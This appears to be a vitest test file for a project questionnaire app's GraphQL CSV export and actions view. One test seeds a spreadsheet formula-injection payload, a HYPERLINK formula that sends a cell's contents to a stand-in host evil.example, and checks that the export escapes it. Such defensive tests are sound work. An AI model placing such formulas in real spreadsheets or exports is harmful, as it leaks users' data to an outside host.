import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LEVEL_LABELS, questionsFor } from '../../../server/modules/questionnaire/bank/index.ts';
import { pick, pickString } from '../../support/pick.ts';
import { pickList } from '../../support/pick-list.ts';
import { createProject, projectWorld, type ProjectWorld } from '../../support/projects.ts';
import { seedAnswers } from '../../support/questionnaire.ts';
import { startTestApp, type TestApp } from '../../support/test-app.ts';

let app: TestApp;
let w: ProjectWorld;
beforeAll(async () => {
  app = await startTestApp();
  w = await projectWorld(app);
});
afterAll(async () => app?.close());

/** A minimal RFC 4180 reader (quoted fields, doubled quotes, embedded commas and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else if (c !== '\r') field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

const CSV = 'query($key: ID!, $phase: Phase!) { project(key: $key) { csv(phase: $phase) { filename content } } }';

describe('CSV of a phase', () => {
  it('keeps text that a spreadsheet would run as a formula as text (a leading quote)', async () => {
    const p = await createProject(app.db, { org: w.org, owner: w.owner.user });
    const [first] = questionsFor('fel2');
    if (!first) throw new Error('empty bank');
    await seedAnswers(app.db, {
      projectId: p.id,
      phase: 'fel2',
      questions: [first],
      extra: () => ({ comment: '=HYPERLINK("http://evil.example/?x="&A1,"click")', evidence: '@SUM(1+1)', actionOwner: '+44 20 7946 0000' }),
    });
    const res = await w.owner.client.graphql(CSV, { key: p.id, phase: 'fel2' });
    const row = parseCsv(pickString(res.data, 'project.csv.content'))[1] ?? [];
    expect(row[6]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(row[7]).toBe(`'@SUM(1+1)`);
    expect(row[9]).toBe(`'+44 20 7946 0000`);
  });

  it('has the questionnaire export\'s 14 columns and one row per question, in bank order, with the answers', async () => {
    const p = await createProject(app.db, { org: w.org, owner: w.owner.user, name: 'Cooling water, "phase 2"' });
    const fel2 = questionsFor('fel2');
    const [first, second, third] = fel2;
    if (!first || !second || !third) throw new Error('small bank');
    await seedAnswers(app.db, {
      projectId: p.id,
      phase: 'fel2',
      questions: [first, second, third],
      level: (_q, i) => (i === 1 ? null : i + 1),
      extra: (q) =>
        q.code === second.code
          ? { na: true, naReason: 'Existing site, no new plot' }
          : { comment: 'Line one\nline two, with "quotes"', evidence: 'DOC-1', revisit: q.code === third.code, actionText: 'Survey', actionOwner: 'Ana', actionDue: '2027-02-01', answeredBy: w.owner.user.id, answeredAt: new Date('2026-05-01T10:00:00Z') },
    });
    const res = await w.superUser.client.graphql(CSV, { key: p.id, phase: 'fel2' });
    expect(res.errors).toBeUndefined();
    expect(pickString(res.data, 'project.csv.filename')).toMatch(/^cooling_water_phase_2_fel2_questions_\d{8}T\d{6}\.csv$/);
    const rows = parseCsv(pickString(res.data, 'project.csv.content'));
    expect(rows[0]).toEqual(['Code', 'Area', 'Question', 'Level', 'Level text', 'N/A reason', 'Comment', 'Evidence', 'Action', 'Owner', 'Due date', 'Revisit', 'Answered by', 'Answered at']);
    expect(rows.slice(1).map((r) => r[0])).toEqual(fel2.map((q) => q.code));
    expect(rows[1]).toEqual([
      first.code,
      'Site factors',
      first.title,
      '1',
      `${LEVEL_LABELS[1]}: ${first.levels[1]}`,
      '',
      'Line one\nline two, with "quotes"',
      'DOC-1',
      'Survey',
      'Ana',
      '2027-02-01',
      'No',
      w.owner.user.name,
      '2026-05-01T10:00:00.000Z',
    ]);
    expect(rows[2]?.slice(3, 6)).toEqual(['N/A', '', 'Existing site, no new plot']);
    expect(rows[3]?.[11]).toBe('Yes');
    expect(rows[4]?.slice(3)).toEqual(['', '', '', '', '', '', '', '', 'No', '', '']);
  });

  it('is another organization’s project: not found', async () => {
    const p = await createProject(app.db, { org: w.org, owner: w.owner.user });
    const res = await w.outsider.client.graphql(CSV, { key: p.id, phase: 'fel3' });
    expect(res.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
  });
});

describe('actions view', () => {
  it('lists the project’s actions of both phases by due date, undated last; open only on request', async () => {
    const p = await createProject(app.db, { org: w.org, owner: w.owner.user });
    const [a, b, c] = questionsFor('fel2');
    const [d] = questionsFor('fel3');
    if (!a || !b || !c || !d) throw new Error('small bank');
    await seedAnswers(app.db, { projectId: p.id, phase: 'fel2', questions: [a], extra: () => ({ actionText: 'Later', actionDue: '2027-06-01' }) });
    await seedAnswers(app.db, { projectId: p.id, phase: 'fel2', questions: [b], extra: () => ({ actionText: 'Undated' }) });
    await seedAnswers(app.db, { projectId: p.id, phase: 'fel2', questions: [c], extra: () => ({ actionText: 'Done already', actionDue: '2026-01-01', actionStatus: 'done' }) });
    await seedAnswers(app.db, { projectId: p.id, phase: 'fel3', questions: [d], extra: () => ({ actionText: 'Soonest', actionDue: '2026-12-01', actionOwner: 'Kim' }) });
    const ACTIONS = 'query($key: ID!, $status: ActionStatus) { project(key: $key) { actions(status: $status) { phase questionCode questionTitle area text owner due status } } }';
    const open = await w.owner.client.graphql(ACTIONS, { key: p.id, status: 'open' });
    expect(pickList(open.data, 'project.actions').map((x) => pick(x, 'text'))).toEqual(['Soonest', 'Later', 'Undated']);
    expect(pick(open.data, 'project.actions.0')).toEqual({ phase: 'fel3', questionCode: d.code, questionTitle: d.title, area: d.area, text: 'Soonest', owner: 'Kim', due: '2026-12-01', status: 'open' });
    const all = await w.owner.client.graphql(ACTIONS, { key: p.id });
    expect(pickList(all.data, 'project.actions').map((x) => pick(x, 'text'))).toEqual(['Done already', 'Soonest', 'Later', 'Undated']);
  });
});
